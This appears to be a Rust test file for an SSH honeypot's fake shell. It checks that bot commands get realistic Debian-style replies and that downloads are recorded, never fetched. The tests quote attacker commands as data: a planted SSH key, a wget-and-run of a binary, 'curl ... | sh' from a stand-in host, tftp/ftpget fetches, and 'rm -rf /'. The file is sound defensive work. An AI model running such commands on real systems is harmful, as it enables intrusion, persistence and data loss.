@@ -1,0 +1,229 @@
+//! Behaviour of the whole shell: what bots type, and what they must see.
+
+use super::*;
+
+fn shell() -> Shell {
+    let world = World::new(Persona::new("web-1", vec!["pi".into(), "admin".into()]));
+    Shell::new(
+        world,
+        "root",
+        Limits {
+            max_line_bytes: 4096,
+            max_commands: 50,
+        },
+        Origin {
+            client_ip: "203.0.113.9".into(),
+            server_ip: "10.0.0.5".into(),
+            now: 1_732_871_331,
+        },
+        false,
+    )
+}
+
+fn run(sh: &mut Shell, line: &str) -> String {
+    String::from_utf8_lossy(&sh.exec(line).data).into_owned()
+}
+
+#[test]
+fn common_bot_commands_answer_like_debian() {
+    let mut sh = shell();
+    assert_eq!(run(&mut sh, "cat /proc/cpuinfo | grep name | wc -l"), "2\n");
+    assert_eq!(run(&mut sh, "uname -m"), "x86_64\n");
+    assert_eq!(
+        run(&mut sh, "uname -s -n -r"),
+        "Linux web-1 6.1.0-28-amd64\n"
+    );
+    assert_eq!(
+        run(&mut sh, "whoami; id"),
+        "root\nuid=0(root) gid=0(root) groups=0(root)\n"
+    );
+    assert_eq!(run(&mut sh, "echo -e '\\x41\\x4b\\x34\\x37'"), "AK47\n");
+    assert_eq!(run(&mut sh, "echo -ne 'a\\nb'"), "a\nb");
+    assert_eq!(run(&mut sh, "which ls"), "/usr/bin/ls\n");
+    assert!(run(&mut sh, "ls -lh $(which ls)").starts_with("-rwxr-xr-x 1 root root  135K"));
+    assert_eq!(
+        run(
+            &mut sh,
+            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"
+        ),
+        "Intel(R) Xeon(R) CPU E5-2680 v4 @\n"
+    );
+    assert_eq!(
+        run(
+            &mut sh,
+            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'"
+        ),
+        "3932 942 1612 1 1376 3067\n"
+    );
+    assert_eq!(
+        run(&mut sh, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"),
+        "1.9G\n"
+    );
+    assert_eq!(run(&mut sh, "nproc"), "2\n");
+    assert_eq!(run(&mut sh, "crontab -l"), "no crontab for root\n");
+    assert_eq!(run(&mut sh, "foo"), "-bash: foo: command not found\n");
+    assert_eq!(sh.status, 127);
+    assert_eq!(
+        run(&mut sh, "/bin/busybox ECCHI"),
+        "ECCHI: applet not found\n"
+    );
+    assert_eq!(
+        run(&mut sh, "lscpu | grep Model"),
+        "  Model name:            Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n    Model:               79\n"
+    );
+    assert_eq!(run(&mut sh, "getconf LONG_BIT"), "64\n");
+}
+
+#[test]
+fn control_flow_quoting_and_substitution() {
+    let mut sh = shell();
+    assert_eq!(
+        run(&mut sh, "cd /nope || cd /tmp && pwd"),
+        "-bash: cd: /nope: No such file or directory\n/tmp\n"
+    );
+    assert_eq!(
+        run(&mut sh, "echo \"$(pwd) `whoami`\" '$HOME' $HOME"),
+        "/tmp root $HOME /root\n"
+    );
+    assert_eq!(run(&mut sh, "false; echo $?"), "1\n");
+    assert_eq!(run(&mut sh, "X=42; echo ${X}"), "42\n");
+    assert_eq!(run(&mut sh, "sh -c 'echo a && echo b'"), "a\nb\n");
+    assert_eq!(run(&mut sh, "ls /nope 2>/dev/null; echo ok"), "ok\n");
+    assert_eq!(run(&mut sh, "echo hi | cat | cat"), "hi\n");
+    assert!(run(&mut sh, "echo 'x").contains("unexpected EOF"));
+}
+
+#[test]
+fn overlay_filesystem_commands() {
+    let mut sh = shell();
+    let out = run(
+        &mut sh,
+        "cd ~; rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
+    );
+    assert_eq!(out, "");
+    assert_eq!(
+        run(&mut sh, "cat .ssh/authorized_keys"),
+        "ssh-rsa AAAA mdrfckr\n"
+    );
+    assert_eq!(run(&mut sh, "touch /tmp/x; ls /tmp"), "x\n");
+    assert_eq!(
+        run(&mut sh, "rm /tmp/x; ls /tmp; cat /tmp/x"),
+        "cat: /tmp/x: No such file or directory\n"
+    );
+    assert_eq!(
+        run(
+            &mut sh,
+            "echo a > /tmp/f; echo b >> /tmp/f; cat /tmp/f | wc -l"
+        ),
+        "2\n"
+    );
+    assert!(run(&mut sh, "rm -rf /").contains("dangerous"));
+}
+
+#[test]
+fn downloads_are_recorded_not_fetched() {
+    let mut sh = shell();
+    let out = sh.exec("cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86; ./x86 ssh; curl -s http://evil.example/a.sh | sh; tftp -g -r t.sh 198.51.100.7; busybox ftpget 198.51.100.7 f.sh f.sh");
+    let urls: Vec<_> = out
+        .actions
+        .iter()
+        .filter_map(|a| match a {
+            Action::Download { url, .. } => Some(url.as_str()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        urls,
+        [
+            "http://198.51.100.7/bins/x86",
+            "http://evil.example/a.sh",
+            "tftp://198.51.100.7/t.sh",
+            "ftp://198.51.100.7/f.sh"
+        ]
+    );
+    let text = String::from_utf8_lossy(&out.data);
+    assert!(text.contains("saved"), "{text}");
+    assert!(!text.contains("command not found"), "{text}");
+    assert!(run(&mut sh, "ls -l /tmp/x86").starts_with("-rwxrwxrwx"));
+}
+
+#[test]
+fn interactive_editing_prompt_and_limits() {
+    let world = World::new(Persona::new("web-1", vec![]));
+    let origin = Origin {
+        client_ip: "203.0.113.9".into(),
+        server_ip: "10.0.0.5".into(),
+        now: 1_732_871_331,
+    };
+    let limits = Limits {
+        max_line_bytes: 64,
+        max_commands: 3,
+    };
+    let mut sh = Shell::new(world, "root", limits, origin, true);
+    let greeting = String::from_utf8_lossy(&sh.greeting().data).into_owned();
+    assert!(greeting.ends_with("root@web-1:~# "), "{greeting}");
+    assert!(greeting.contains("\r\n"));
+    let out = sh.feed(b"pwf\x7fd\r");
+    assert_eq!(
+        String::from_utf8_lossy(&out.data),
+        "pwf\x08 \x08d\r\n/root\r\nroot@web-1:~# "
+    );
+    assert_eq!(out.actions, [Action::Command("pwd".into())]);
+    let out = sh.feed(&[b'x'; 1000]);
+    assert_eq!(out.actions, [Action::Limit("line")]);
+    sh.feed(b"\r");
+    sh.feed(b"id\r");
+    let out = sh.feed(b"id\r");
+    assert!(out.actions.contains(&Action::Limit("commands")));
+    assert_eq!(out.exit, Some(0));
+}
+
+#[test]
+fn hostile_input_never_panics() {
+    let mut sh = shell();
+    let nasty = [
+        "$(",
+        "`",
+        "${",
+        "\"$(\"",
+        "echo $((1+1))",
+        "a | | b",
+        ";;",
+        "& &",
+        "2>&1",
+        "> ",
+        "cat < /nope",
+        "echo \\",
+        "printf %",
+        "printf '%99999999d' 1",
+        "head -c 99999999999 /etc/passwd",
+        "dd if=/dev/zero bs=999999999999 count=99999999",
+        "awk",
+        "awk '{print $99999999999}' /etc/passwd",
+        "cut -f 0",
+        "tr a-\u{10ffff} b",
+        "yes | head",
+        "grep",
+        "sed s",
+        "base64 -d",
+        "chmod",
+        "chmod u+ /tmp",
+        "echo -e '\\x'",
+        "echo -e '\\0777'",
+        "ls -la /proc /nope",
+        "test -f",
+        "[ a",
+        "busybox",
+        "eval eval eval eval eval eval eval eval eval eval echo x",
+        "sh -c 'sh -c \"sh -c sh\"'",
+        "tftp",
+        "ftpget",
+        "wget",
+        "curl",
+    ];
+    for line in nasty {
+        let _ = sh.exec(line);
+    }
+    let deep = "echo ".to_string() + &"$(echo ".repeat(100) + &")".repeat(100);
+    let _ = sh.exec(&deep);
+}
